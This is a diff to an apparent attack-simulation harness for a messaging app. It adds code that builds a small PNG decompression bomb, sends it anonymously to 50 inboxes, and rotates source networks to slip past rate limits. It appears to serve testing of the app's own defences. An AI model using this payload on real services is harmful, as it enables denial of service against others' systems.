@@ -2,6 +2,7 @@ import { readFile } from 'node:fs/promises';
 import { request, type ClientRequest } from 'node:http';
 import { connect } from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
+import { crc32, deflateSync } from 'node:zlib';
 
 /** Order for the attacker process. */
 export interface AttackOrder {
@@ -34,6 +35,9 @@ const LARGE_HEADS_PER_SECOND = 100;
 const HEAD_BYTES = [15_000, 40_000];
 const BOMBS_PER_SECOND = 4;
 const MAX_BOMBS = 8;
+/** More than media has wait. */
+const NETWORKS = 33;
+const RECIPIENTS = 50;
 const TEXTS_PER_SECOND = 20;
 const MAX_SMALL_REQUESTS = 40;
 const STREAMS = 10_000;
@@ -57,6 +61,7 @@ const hex = (value: number): string => value.toString(16);
 const ONE_ADDRESS: Origin = (attack) => `203.0.113.${attack + 1}`;
 /** A line at home: 256 networks. */
 const A_LINE: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex(call % 256)}::1`;
+const THIRTY_THREE_OF_A_LINE: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex(call % NETWORKS)}::1`;
 /** A tunnel: 65,536 networks. */
 const A_TUNNEL: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex((call * 257) % 65_536)}::1`;
 const EIGHT_SITES: Origin = (attack, call) => `172.${16 + (attack % 16)}.${call % 8}.${1 + (call % 254)}`;
@@ -216,6 +221,33 @@ async function pictureBombs({ userId }: AttackOrder) {
   );
 }
 
+/** A PNG of 6 kB and 7,070² pixels of one bit, which are within all bounds and take more than a second to decode. */
+function largestPicture(): Buffer {
+  const side = 7_070;
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(side, 0);
+  header.writeUInt32BE(side, 4);
+  header[8] = 1;
+  const rows = deflateSync(Buffer.alloc((1 + Math.ceil(side / 8)) * side), { level: 9 });
+  const chunk = (name: string, data: Buffer): Buffer => {
+    const [named, length, sum] = [Buffer.concat([Buffer.from(name), data]), Buffer.alloc(4), Buffer.alloc(4)];
+    length.writeUInt32BE(data.length);
+    sum.writeUInt32BE(crc32(named));
+    return Buffer.concat([length, named, sum]);
+  };
+  const start = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
+  return Buffer.concat([start, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
+}
+
+/** To many inboxes, none of which asks for a proof of work. As a visitor, whose networks count and no account. */
+function largestPictures({ userId }: AttackOrder) {
+  const imageUrl = `data:image/png;base64,${largestPicture().toString('base64')}`;
+  return Array.from({ length: RECIPIENTS }, (_, index) => {
+    const request = json('POST', '/api/messages', JSON.stringify({ userId: userId - index, content: 'a', imageUrl }));
+    return { ...request, headers: { ...request.headers, cookie: '' } };
+  });
+}
+
 async function soundBombs({ sounds }: AttackOrder) {
   return Promise.all(
     sounds.map(async (name) => {
@@ -333,6 +365,10 @@ export const ATTACKS = {
   'picture bombs': {
     from: ONE_ADDRESS,
     run: async (order) => goOn(order, { perSecond: BOMBS_PER_SECOND, atOnce: MAX_BOMBS }, await pictureBombs(order)),
+  },
+  'largest pictures from a line': {
+    from: THIRTY_THREE_OF_A_LINE,
+    run: (order) => goOn(order, { perSecond: BOMBS_PER_SECOND, atOnce: NETWORKS }, largestPictures(order)),
   },
   'sound bombs': {
     from: ONE_ADDRESS,
